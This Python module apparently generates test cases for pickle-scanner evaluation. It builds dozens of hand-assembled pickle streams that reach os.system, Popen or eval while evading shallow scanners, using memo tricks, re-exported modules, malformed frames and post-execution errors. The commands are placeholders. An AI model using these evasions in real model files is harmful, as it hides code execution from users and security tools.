"""Opcode evasions: the same command, written so that a shallow reader loses the thread.

Each entry is one way to build the reference or the call; many are from published bypasses, the
rest follow from reading the interpreter's own machine.
"""

# ruff: noqa: E501 (a table reads better with one entry a line)

import struct
from collections.abc import Iterator

from proofs.hostile.assembler import (
    PAYLOAD,
    SYSTEM,
    Apply,
    Ref,
    frame,
    integer,
    long1,
    payload,
    pickled,
    proto,
    push,
    reference,
    text,
)
from proofs.hostile.case import COMMAND, Case

P4 = proto(4)
OS, NAME, ARG = text("os", 4), text("system", 4), text(COMMAND, 4)
CALL = ARG + b"\x85R."
SG = b"\x93"
GLOBAL = b"cos\nsystem\n"


def _put(index: int) -> bytes:
    return b"q" + bytes([index])


def _get(index: int) -> bytes:
    return b"h" + bytes([index])


def _long_put(index: int) -> bytes:
    return b"r" + struct.pack("<I", index)


def _long_get(index: int) -> bytes:
    return b"j" + struct.pack("<I", index)


def computed() -> dict[str, bytes]:
    """STACK_GLOBAL whose operands come from anywhere but two pushes before it."""
    benign = text("collections", 4) + text("OrderedDict", 4)
    return {
        "memo": P4 + OS + b"\x940" + NAME + b"\x940" + _get(0) + _get(1) + SG + CALL,
        "memo-swapped": P4
        + NAME
        + _put(7)
        + b"0"
        + OS
        + _put(3)
        + b"0"
        + _get(3)
        + _get(7)
        + SG
        + CALL,
        "memo-overwritten": P4
        + benign
        + _put(1)
        + b"0"
        + _put(0)
        + b"0"
        + OS
        + _put(0)
        + b"0"
        + NAME
        + _put(1)
        + b"0"
        + _get(0)
        + _get(1)
        + SG
        + CALL,
        "memo-long-index": P4
        + OS
        + _long_put(70000)
        + b"0"
        + NAME
        + _long_put(5)
        + b"0"
        + _long_get(70000)
        + _long_get(5)
        + SG
        + CALL,
        "memo-text-get": P4 + OS + b"p12\n0" + NAME + b"p0013\n0" + b"g12\ng13\n" + SG + CALL,
        "memo-text-spaces": P4 + OS + b"p 12\n0" + NAME + b"p+13\n0" + b"g1_2\ng13 \n" + SG + CALL,
        "dup": P4 + text("os", 4) + b"2\x940" + NAME + SG + CALL,
        "pop-between": P4 + OS + text("path", 4) + b"0" + NAME + SG + CALL,
        "pop-mark-between": P4 + OS + b"(" + text("x", 4) + text("y", 4) + b"1" + NAME + SG + CALL,
        "decoys-before": P4 + benign + b"00" + OS + NAME + SG + CALL,
        "int-between": P4 + OS + b"K\x010" + NAME + b"N0" + SG + CALL,
        "old-strings": P4 + b"S'os'\nS'system'\n" + SG + CALL,
        "old-binstrings": P4 + b"U\x02os" + b"T\x06\x00\x00\x00system" + SG + CALL,
        "long-strings": P4
        + b"X\x02\x00\x00\x00os"
        + b"\x8d"
        + struct.pack("<Q", 6)
        + b"system"
        + SG
        + CALL,
        "escaped-strings": P4 + b"V\\u006f\\u0073\nV\\u0073ystem\n" + SG + CALL,
        "from-tuple": P4
        + OS
        + NAME
        + b"\x86\x940"
        + b"("
        + OS
        + NAME
        + b"l0"
        + OS
        + NAME
        + SG
        + CALL,
        "from-list-get": P4
        + b"]\x94"
        + OS
        + b"\x94a0"
        + NAME
        + b"\x940"
        + _get(1)
        + _get(2)
        + SG
        + CALL,
        "from-decode": P4
        + push(Apply(Ref("_codecs", "encode"), ("os", "rot13")), 4).replace(b"encode", b"decode")
        + NAME
        + SG
        + CALL,
        "from-join": P4
        + push(Apply(Ref("builtins", "str.join"), ("", ["o", "s"])), 4)
        + NAME
        + SG
        + CALL,
        "from-str-call": P4 + push(Apply(Ref("builtins", "str"), ("os",)), 4) + NAME + SG + CALL,
    }


def globals_() -> dict[str, bytes]:
    """Other roads to the same name."""
    return {
        "global": proto(2) + GLOBAL + CALL,
        "global-crlf-lookalike": b"cos\nsystem\n(V" + COMMAND.encode() + b"\ntR.",
        "inst": b"(S'" + COMMAND.encode() + b"'\nios\nsystem\n.",
        "inst-in-dict": b"(S'w'\n(S'" + COMMAND.encode() + b"'\nios\nsystem\nd.",
        "obj": proto(2) + b"(" + GLOBAL + text(COMMAND, 2) + b"o.",
        "obj-popped": proto(2) + b"(" + GLOBAL + text(COMMAND, 2) + b"o0N.",
        "obj-pop-mark": proto(2) + b"((" + GLOBAL + text(COMMAND, 2) + b"o1N.",
        "reduce-popped": proto(2) + GLOBAL + text(COMMAND, 2) + b"\x85R0]" + b".",
        "newobj": proto(2)
        + b"csubprocess\nPopen\n"
        + push((["echo", "seamark-harmless"],), 2)
        + b"\x81.",
        "newobj-ex": P4
        + reference(Ref("subprocess", "Popen"), 4)
        + b")"
        + push({"args": ["echo", "seamark-harmless"]}, 4)
        + b"\x92.",
        "dotted-logging": pickled(Apply(Ref("logging", "os.system"), (COMMAND,)), 4),
        "dotted-collections": pickled(Apply(Ref("collections", "_sys.modules"), ()), 4),
        "dotted-numpy": pickled(
            Apply(Ref("numpy", "testing._private.utils.os.system"), (COMMAND,)), 4
        ),
        "dotted-random": pickled(Apply(Ref("random", "_os.system"), (COMMAND,)), 4),
        "dotted-torch": pickled(Apply(Ref("torch", "serialization.os.system"), (COMMAND,)), 4),
        "dotted-sklearn": pickled(Apply(Ref("sklearn.utils", "warnings.sys.exit"), (0,)), 4),
        "dotted-type": pickled(
            Apply(Ref("collections", "OrderedDict.__reduce__.__globals__"), ()), 4
        ),
        "reexport-logging": pickled(Apply(Ref("logging", "os"), ()), 2),
        "reexport-numpy": pickled(Ref("numpy.testing._private.utils", "os"), 2),
        "reexport-torch": pickled(Ref("torch.serialization", "os"), 2),
        "reexport-joblib": pickled(Ref("joblib.numpy_pickle", "pickle"), 2),
        "reexport-sklearn": pickled(Apply(Ref("sklearn.utils", "import_module"), ("os",)), 2),
        "python2-builtin": b"c__builtin__\neval\n(S'1'\ntR.",
        "python2-urllib": proto(2)
        + b"curllib\nurlopen\n"
        + push(("http://seamark.invalid/",), 2)
        + b"R.",
        "python2-anydbm": proto(2) + b"canydbm\nopen\n" + push(("seamark-harmless",), 2) + b"R.",
        "module-only": pickled(Ref("antigravity", "seamark"), 2),
        "package-data-import": pickled(Ref("os", "path"), 2),
        "whitespace-module": proto(2) + b"cos \nsystem\n" + CALL,
        "unicode-lookalike": pickled(Apply(Ref("оs", "system"), (COMMAND,)), 4),  # noqa: RUF001
        "nul-in-name": pickled(Apply(Ref("os\0", "system"), (COMMAND,)), 4),
        "surrogate-name": P4 + b"\x8c\x05os\xed\xa0\x80" + NAME + SG + CALL,
        "ext1": proto(2) + b"\x82\x01" + CALL,
        "ext2": proto(2) + b"\x83\x01\x01" + CALL,
        "ext4": proto(2) + b"\x84\x01\x00\x01\x00" + CALL,
        "persid-text": b"Pos.system\n.",
        "binpersid": proto(2) + text("os.system", 2) + b"Q.",
        "binpersid-computed": proto(2) + push(PAYLOAD, 2) + b"Q.",
    }


def builds() -> dict[str, bytes]:
    """State given to what was imported, so that a later, harmless-looking use acts."""
    sysmodule = reference(Ref("sys", "modules"), 2)
    return {
        "build-on-import": proto(2) + b"cnumpy\nsize\n" + push({"__code__": SYSTEM}, 2) + b"b.",
        "build-on-class": proto(2) + b"ccollections\nOrderedDict\n" + push({"__init__": SYSTEM}, 2) + b"b.",
        "build-slots-tuple": proto(2) + b"cbuiltins\nset\n" + push((None, {"add": SYSTEM}), 2) + b"b.",
        "build-torch-global": proto(2) + b"ctorch.nn.modules.linear\nLinear\n"
        + push({"forward": SYSTEM}, 2) + b"b.",
        "build-setstate": pickled(
            Apply(Ref("collections", "OrderedDict"), (), state={"__setstate__": SYSTEM}), 2
        )[:-1] + text(COMMAND, 2) + b"b.",
        "setitem-on-import": proto(2) + sysmodule + push("re", 2) + push(SYSTEM, 2) + b"s.",
        "setitems-on-import": proto(2) + sysmodule + b"(" + push("re", 2) + push(SYSTEM, 2) + b"u.",
        "append-on-import": proto(2) + b"csys\npath\n" + text("/seamark-harmless", 2) + b"a.",
        "appends-on-import": proto(2) + b"csys\nmeta_path\n(" + push(SYSTEM, 2) + b"e.",
        "additems-on-import": P4 + reference(Ref("sys", "builtin_module_names"), 4) + b"("
        + text("x", 4) + b"\x90.",
        "setitem-torch-storage": proto(2) + b"ctorch._utils\n_rebuild_tensor_v2\n" + text("x", 2)
        + push(1, 2) + b"s.",
        "defaultdict-factory": pickled(Apply(Ref("collections", "defaultdict"), (SYSTEM,)), 2),
        "defaultdict-exec": pickled(Apply(Ref("collections", "defaultdict"), (Ref("builtins", "eval"),)), 4),
        "partial": pickled(Apply(Ref("functools", "partial"), (SYSTEM,)), 2),
        "transformer-func": pickled(
            Apply(Ref("sklearn.preprocessing._function_transformer", "FunctionTransformer"), (),
                  state={"func": SYSTEM}, new=True), 2),
        "dtype-metadata": pickled(Apply(Ref("numpy", "dtype"), ("O8", False, True),
                                        state=(3, "|", None, None, None, -1, -1, 63, {"x": PAYLOAD})), 2),
        "rebuild-hooks": pickled(Apply(Ref("torch._utils", "_rebuild_tensor_v2"),
                                       (None, 0, (1,), (1,), False, {"hook": SYSTEM})), 2),
        "rebuild-from-type": pickled(Apply(Ref("torch._tensor", "_rebuild_from_type_v2"),
                                           (SYSTEM, Ref("builtins", "object"), (COMMAND,), {})), 2),
        "rebuild-parameter-state": pickled(Apply(Ref("torch._utils", "_rebuild_parameter_with_state"),
                                                 (None, False, {}, {"__class__": SYSTEM})), 2),
        "type-with-dunder": pickled(Apply(Ref("builtins", "type"), ("M", (), {"__del__": SYSTEM})), 4),
        "reconstructor-class": pickled(Apply(Ref("copy_reg", "_reconstructor"),
                                             (Ref("subprocess", "Popen"), Ref("__builtin__", "object"), None)), 0),
        "slice-of-import": pickled([Apply(Ref("builtins", "slice"), (SYSTEM, None, None))], 4),
        "memmap-path": pickled(Apply(Ref("numpy", "memmap"), ("/seamark-harmless",)), 4),
        "enum-by-value": pickled(Apply(Ref("enum", "_make_class_unpicklable"), (Ref("os", "stat"),)), 4),
    }  # fmt: skip


def framing() -> dict[str, bytes]:
    """Frames, protocols and long integers that lie."""
    body = reference(SYSTEM, 4) + CALL
    return {
        "frame-short": P4 + b"\x95" + struct.pack("<Q", 3) + body,
        "frame-long": P4 + b"\x95" + struct.pack("<Q", len(body) + 400) + body,
        "frame-huge": P4 + b"\x95" + b"\xff" * 8 + body,
        "frame-zero": P4 + b"\x95" + b"\0" * 8 + body,
        "frame-straddle": P4 + frame(OS + b"\x8c\x06sys") + b"tem" + SG + CALL,
        "frame-straddle-argument": P4 + frame(reference(SYSTEM, 4) + ARG[:6]) + ARG[6:] + b"\x85R.",
        "frame-in-frame": P4 + frame(b"\x95" + struct.pack("<Q", len(body)) + body),
        "frame-protocol-0": b"\x95" + struct.pack("<Q", 2) + b"N0" + GLOBAL + CALL,
        "proto-mid-stream": proto(2) + b"N0" + P4 + body,
        "proto-after-global": proto(2) + GLOBAL + proto(0) + CALL,
        "proto-many": proto(2) * 40 + GLOBAL + CALL,
        "proto-unknown-late": proto(2) + GLOBAL + ARG + b"\x85R" + proto(9) + b".",
        "long-int-noise": P4 + long1(1 << 900) + b"0" + long1(-1) + b"0" + body,
        "long4-noise": P4 + b"\x8b" + struct.pack("<i", 300) + b"\x7f" * 300 + b"0" + body,
        "long-text-noise": proto(2)
        + b"L1234567890123456789012345678901234567890L\n0"
        + GLOBAL
        + CALL,
        "int-bool-noise": b"I00\n0I01\n0" + integer(5, 0) + b"0" + GLOBAL + CALL,
        "bytearray-noise": proto(5) + b"\x96" + struct.pack("<Q", 4) + b"cos\n0" + body,
        "buffer-opcodes": proto(5) + b"\x96" + struct.pack("<Q", 1) + b"x\x980" + body,
        "string-escape-noise": b"S'\\x63os\\nsystem\\n'\n0" + GLOBAL + CALL,
        "unicode-newline-arg": b"cos\nsystem\n(Vecho\\u0020seamark-harmless\ntR.",
        "no-mark-tuple": proto(2) + b"(" + GLOBAL + b"(" + text(COMMAND, 2) + b"tR0(l.",
        "frozenset-noise": P4 + b"(K\x01K\x02\x91" + b"0" + b"\x8f(K\x01\x90" + b"0" + body,
    }


def exceptions() -> dict[str, bytes]:
    """Streams that act and then break: the loader raises, the command has already run."""
    acted = proto(2) + GLOBAL + text(COMMAND, 2) + b"\x85R"
    return {
        "no-stop": acted,
        "unknown-opcode": acted + b"\xff.",
        "truncated-argument": acted + b"X\xff\xff\x00\x00short",
        "stack-underflow": acted + b"00000.",
        "missing-memo": acted + b"h\x63.",
        "bad-integer": acted + b"Inot-a-number\n.",
        "bad-utf8": acted + b"X\x02\x00\x00\x00\xff\xfe.",
        "build-on-int": acted + b"}K\x01b.",
        "missing-module": acted + b"cseamark_missing_module\nx\n.",
        "reduce-not-callable": acted + b"K\x01)R.",
        "bad-long": acted + b"\x8b\xff\xff\xff\xff.",
        "mark-missing": acted + b"t.",
        "persistent-id": acted + b"Pmissing\n.",
        "newobj-not-class": acted + b"K\x01)\x81.",
        "string-unquoted": acted + b"Sunquoted\n.",
        "memo-negative": acted + b"p-1\n.",
        "bad-proto": acted + proto(77) + b".",
        "append-to-int": acted + b"K\x05K\x01a.",
        "stop-on-empty": acted + b"0.",
    }


_FAMILIES = {
    ("opcode-evasion", "computed"): computed,
    ("opcode-evasion", "references"): globals_,
    ("opcode-evasion", "builds"): builds,
    ("opcode-evasion", "framing"): framing,
    ("opcode-evasion", "exceptions"): exceptions,
}


def cases() -> Iterator[Case]:
    """One case an entry of the tables above, then the payload in every protocol."""
    for (family, group), table in _FAMILIES.items():
        for name in table():
            yield Case(
                id=f"{family}/{group}/{name}",
                family=family,
                group=group,
                source="arXiv 2508.19774"
                if group == "exceptions"
                else "own, picklescan issues 14 22",
                path=f"{family}/{group}-{name}.pkl",
                build=lambda t=table, n=name: t()[n],
            )
    for protocol in range(6):
        yield Case(
            id=f"opcode-evasion/protocols/{protocol}",
            family="opcode-evasion",
            group="protocols",
            source="own",
            path=f"opcode-evasion/protocol-{protocol}.pkl",
            build=lambda p=protocol: payload(p),
        )
